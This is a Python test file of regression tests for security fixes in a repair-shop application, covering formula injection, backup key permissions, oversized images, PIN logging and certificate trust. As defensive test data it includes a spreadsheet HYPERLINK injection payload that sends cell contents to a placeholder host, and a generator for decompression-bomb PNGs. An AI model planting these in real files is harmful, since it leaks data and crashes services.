"""Defects found in review of the window, slips, summary and trust work, each pinned by a test.

Each test fails on the code before its fix: the workbook ran text as a formula, the second
backup folder got world-readable private keys, a decompression-bomb photo crashed the intake,
a PIN typed into the name field went into the permanent event log, and an imported PKCS#12's
CA made every certificate it ever issued pass `verify` as this shop's.
"""

from __future__ import annotations

import datetime as dt
import io
import os
import struct
import zipfile
import zlib
from pathlib import Path

import pytest
from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec
from cryptography.hazmat.primitives.serialization import pkcs12
from cryptography.x509.oid import NameOID
from reportlab.lib.pagesizes import A5
from reportlab.pdfgen import canvas

from app.documents import signing
from app.domain.errors import DomainError, ValidationError
from app.services.casework.intake import IntakeForm, take_intake
from app.services.casework.intake_help import attach_photos, save_intake
from app.services.casework.rules import update_settings, with_settings
from app.services.paper import exports, report
from app.services.safekeeping.backups import backup_now
from app.services.shop.accounts import login
from app.services.shop.context import Context
from app.store.models import Event
from tests.conftest import Clock, row_counts

# --- the workbook never turns typed text into a formula -----------------------------------------


def test_workbook_keeps_text_that_starts_with_equals_as_text(ctx: Context, clock: Clock) -> None:
    evil = '=HYPERLINK("http://x.example/?"&A1,"点我")'
    take_intake(ctx, IntakeForm(kind="repair", name="王五", phone="13800138000", product=evil,
                                category="phone"))  # fmt: skip
    today = ctx.today()
    data = exports.report_workbook(ctx, report.month_report(ctx, today.year, today.month))
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        sheets = [zf.read(n) for n in zf.namelist() if n.startswith("xl/worksheets/sheet")]
    assert any(b"HYPERLINK" in s for s in sheets)  # the product is in the workbook …
    assert not any(b"<f>" in s for s in sheets)  # … as text, never as a formula


# --- the second backup folder keeps the keys private --------------------------------------------


@pytest.mark.skipif(os.name != "posix", reason="file modes are POSIX")
def test_keys_mirrored_to_the_second_folder_stay_owner_only(ctx: Context, tmp_path: Path) -> None:
    signing.ensure_identity(ctx.data_dir, "示例手机店")
    usb = tmp_path / "usb"
    usb.mkdir()
    ctx = with_settings(ctx, update_settings(ctx, {"backup.second_folder": str(usb)}))
    old = os.umask(0o022)
    try:
        done = backup_now(ctx, "manual")
    finally:
        os.umask(old)
    assert done.keys is not None and done.keys.stat().st_mode & 0o077 == 0
    copy = usb / done.keys.name
    assert copy.read_bytes() == done.keys.read_bytes()
    assert copy.stat().st_mode & 0o077 == 0, oct(copy.stat().st_mode)
    assert not list(usb.glob("*.part"))


# --- a photo that claims billions of pixels is refused, not a crash -----------------------------


def _png_claiming(path: Path, width: int, height: int) -> Path:
    def chunk(kind: bytes, body: bytes) -> bytes:
        crc = zlib.crc32(kind + body) & 0xFFFFFFFF
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", crc)

    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    path.write_bytes(
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", zlib.compress(b"\0" * 16))
        + chunk(b"IEND", b"")
    )
    return path


def test_a_decompression_bomb_photo_is_a_field_error(ctx: Context, tmp_path: Path) -> None:
    bomb = _png_claiming(tmp_path / "bomb.png", 100_000, 100_000)  # 10^10 pixels, 80 bytes
    case = take_intake(ctx, IntakeForm(kind="complaint", name="王五", phone="13800138000"))
    before = row_counts()
    with pytest.raises(ValidationError) as bad:
        attach_photos(ctx, case.number, [bomb])
    assert [(e.field, e.code) for e in bad.value.errors] == [("photos[0]", "photo_unreadable")]
    with pytest.raises(ValidationError):
        save_intake(ctx, IntakeForm(kind="complaint", name="王五", phone="13800138000"),
                    photos=[bomb])  # fmt: skip
    assert row_counts() == before


# --- a PIN typed into the name field never reaches the permanent log ----------------------------


def test_a_pin_typed_as_the_name_is_not_kept_in_the_event_log(ctx: Context, clock: Clock) -> None:
    for name in ("13579246", "ab135792", "张三 13800138000"):
        with pytest.raises(DomainError):
            login(ctx.data_dir, name, "whatever1", clock=clock)
    with pytest.raises(DomainError):
        login(ctx.data_dir, "admin", "whatever1", clock=clock)
    logged = [e.data["name"] for e in Event.select().where(Event.action == "login_failed")]
    assert logged == ["?", "?", "?", "admin"]  # a plain unknown name is still written down


# --- an imported PKCS#12: only the shop's own certificate verifies ------------------------------


def _slip() -> bytes:
    buf = io.BytesIO()
    c = canvas.Canvas(buf, pagesize=A5)
    c.drawString(50, 500, "SH-2026-000001")
    c.showPage()
    c.save()
    return buf.getvalue()


def _ca_and_leaves(count: int) -> list[bytes]:
    """One CA (a public CA, say) and `count` customers of it, each as a PKCS#12 (password pw)."""
    now = dt.datetime.now(dt.UTC)
    ca_key = ec.generate_private_key(ec.SECP256R1())
    ca_name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "Public CA")])
    ca = (
        x509.CertificateBuilder()
        .subject_name(ca_name)
        .issuer_name(ca_name)
        .public_key(ca_key.public_key())
        .serial_number(x509.random_serial_number())
        .not_valid_before(now - dt.timedelta(days=2))
        .not_valid_after(now + dt.timedelta(days=3650))
        .add_extension(x509.BasicConstraints(ca=True, path_length=None), critical=True)
        .sign(ca_key, hashes.SHA256())
    )
    out = []
    for n in range(count):
        key = ec.generate_private_key(ec.SECP256R1())
        off = dict.fromkeys(
            ("key_encipherment", "data_encipherment", "key_agreement", "key_cert_sign",
             "crl_sign", "encipher_only", "decipher_only"),
            False,
        )  # fmt: skip
        cert = (
            x509.CertificateBuilder()
            .subject_name(x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, f"商户 {n}")]))
            .issuer_name(ca_name)
            .public_key(key.public_key())
            .serial_number(x509.random_serial_number())
            .not_valid_before(now - dt.timedelta(days=1))
            .not_valid_after(now + dt.timedelta(days=365))
            .add_extension(
                x509.KeyUsage(digital_signature=True, content_commitment=True, **off),
                critical=True,
            )
            .sign(ca_key, hashes.SHA256())
        )
        out.append(
            pkcs12.serialize_key_and_certificates(
                b"x", key, cert, [ca], serialization.BestAvailableEncryption(b"pw")
            )
        )
    return out


def test_an_imported_cas_other_customers_do_not_pass_as_this_shop(tmp_path: Path) -> None:
    mine, theirs = _ca_and_leaves(2)
    shop, other = tmp_path / "shop", tmp_path / "other"
    signing.ensure_identity(shop, "本店")
    own_before = signing.sign_pdf(_slip(), shop)
    signing.import_pkcs12(shop, mine, "pw")
    signing.import_pkcs12(other, theirs, "pw")  # another business, same public CA
    own_after = signing.sign_pdf(_slip(), shop)
    forged = signing.sign_pdf(_slip(), other)
    assert signing.verify_pdf(own_after, shop).ok
    assert signing.verify_pdf(own_before, shop).ok  # the shop's own earlier root still counts
    verdict = signing.verify_pdf(forged, shop)
    assert not verdict.ok and verdict.code == "not_our_certificate", verdict
